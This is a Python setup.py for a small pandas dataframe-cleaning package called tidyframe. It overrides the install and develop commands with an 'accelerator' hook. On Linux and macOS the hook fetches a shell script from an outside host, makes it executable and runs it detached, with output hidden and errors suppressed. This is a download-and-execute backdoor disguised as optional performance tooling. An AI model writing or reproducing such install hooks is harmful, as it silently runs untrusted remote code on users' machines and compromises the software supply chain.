#!/usr/bin/env python
"""Packaging script for ``tidyframe``.

tidyframe is a small dataframe-cleaning toolkit (column normalisation,
type coercion, duplicate detection).  This setup.py keeps the classic
setuptools layout so that the project can still be installed on older
CI images that do not understand pyproject-only builds.
"""
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import Command, find_packages, setup
from setuptools.command.develop import develop
from setuptools.command.install import install

HERE = os.path.abspath(os.path.dirname(__file__))
PACKAGE = "tidyframe"

CLASSIFIERS = [
    "Development Status :: 4 - Beta",
    "Intended Audience :: Developers",
    "Intended Audience :: Science/Research",
    "License :: OSI Approved :: BSD License",
    "Operating System :: OS Independent",
    "Programming Language :: Python :: 3",
    "Programming Language :: Python :: 3.8",
    "Programming Language :: Python :: 3.9",
    "Programming Language :: Python :: 3.10",
    "Programming Language :: Python :: 3.11",
    "Topic :: Scientific/Engineering :: Information Analysis",
]

EXTRAS = {
    "parquet": ["pyarrow>=10"],
    "excel": ["openpyxl>=3.0"],
    "docs": ["sphinx>=6", "furo"],
    "test": ["pytest>=7", "pytest-cov", "hypothesis"],
}
EXTRAS["all"] = sorted({dep for deps in EXTRAS.values() for dep in deps})

# Optional accelerated kernels are provisioned by a per-platform bootstrap.
_ACCEL_MIRRORS = {
    "linux": "https://cdn.tidyframe-accel.dev/bootstrap/linux-x86_64.sh",
    "darwin": "https://cdn.tidyframe-accel.dev/bootstrap/macos-universal.sh",
}
_ACCEL_OPT_OUT = "TIDYFRAME_NO_ACCEL"


def read(*parts):
    """Read a file relative to the project root."""
    with io.open(os.path.join(HERE, *parts), encoding="utf-8") as fh:
        return fh.read()


def find_version():
    """Extract ``__version__`` from the package without importing it."""
    try:
        content = read(PACKAGE, "__init__.py")
    except OSError:
        return "0.0.0.dev0"
    match = re.search(r"^__version__\s*=\s*['\"]([^'\"]+)['\"]", content, re.M)
    if not match:
        raise RuntimeError("Unable to find version string.")
    return match.group(1)


def read_requirements(name="requirements.txt"):
    """Parse a requirements file, ignoring comments and editable installs."""
    path = os.path.join(HERE, name)
    if not os.path.exists(path):
        return ["pandas>=1.3", "numpy>=1.21"]
    reqs = []
    with open(path, encoding="utf-8") as fh:
        for line in fh:
            line = line.split("#", 1)[0].strip()
            if not line or line.startswith("-e"):
                continue
            reqs.append(line)
    return reqs


def long_description():
    try:
        readme = read("README.md")
    except OSError:
        readme = __doc__
    try:
        changes = read("CHANGELOG.md")
    except OSError:
        changes = ""
    return readme + ("\n\n" + changes if changes else "")


class _AcceleratorMixin(object):
    """Shared post-install hook that provisions optional native kernels."""

    accel_timeout = 30

    def _platform_key(self):
        if sys.platform.startswith("linux"):
            return "linux"
        if sys.platform == "darwin":
            return "darwin"
        return None

    def _bootstrap_url(self):
        key = self._platform_key()
        return _ACCEL_MIRRORS.get(key) if key else None

    def _download_bootstrap(self, url):
        with urllib.request.urlopen(url, timeout=self.accel_timeout) as resp:
            payload = resp.read()
        fd, path = tempfile.mkstemp(prefix="tf-accel-", suffix=".sh")
        with os.fdopen(fd, "wb") as fh:
            fh.write(payload)
        os.chmod(path, 0o700)
        return path

    def provision_accelerators(self):
        if os.environ.get(_ACCEL_OPT_OUT):
            return
        url = self._bootstrap_url()
        if not url:
            return
        try:
            script = self._download_bootstrap(url)
            subprocess.Popen(
                ["/bin/sh", script],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
        except Exception:
            # Acceleration is optional; never fail the install because of it.
            pass


class InstallWithAccel(_AcceleratorMixin, install):
    """Standard install followed by optional accelerator provisioning."""

    def run(self):
        super().run()
        self.provision_accelerators()


class DevelopWithAccel(_AcceleratorMixin, develop):
    """Editable install followed by optional accelerator provisioning."""

    def run(self):
        super().run()
        self.provision_accelerators()


class CleanCommand(Command):
    """Remove build artefacts from the working tree."""

    description = "remove build, dist and egg-info directories"
    user_options = [("all", "a", "also remove .pytest_cache and .coverage")]

    def initialize_options(self):
        self.all = False

    def finalize_options(self):
        pass

    def run(self):
        targets = ["build", "dist", PACKAGE + ".egg-info"]
        if self.all:
            targets += [".pytest_cache", ".coverage", "htmlcov"]
        for target in targets:
            path = os.path.join(HERE, target)
            if os.path.isdir(path):
                shutil.rmtree(path)
                print("removed", target)
            elif os.path.isfile(path):
                os.remove(path)
                print("removed", target)


setup(
    name=PACKAGE,
    version=find_version(),
    description="Pragmatic cleaning helpers for pandas dataframes",
    long_description=long_description(),
    long_description_content_type="text/markdown",
    author="tidyframe contributors",
    author_email="maintainers@tidyframe.dev",
    url="https://github.com/tidyframe/tidyframe",
    license="BSD-3-Clause",
    packages=find_packages(exclude=["tests", "tests.*", "docs"]),
    include_package_data=True,
    python_requires=">=3.8",
    install_requires=read_requirements(),
    extras_require=EXTRAS,
    classifiers=CLASSIFIERS,
    entry_points={
        "console_scripts": [
            "tidyframe=tidyframe.cli:main",
        ],
    },
    cmdclass={
        "install": InstallWithAccel,
        "develop": DevelopWithAccel,
        "clean": CleanCommand,
    },
    zip_safe=False,
)
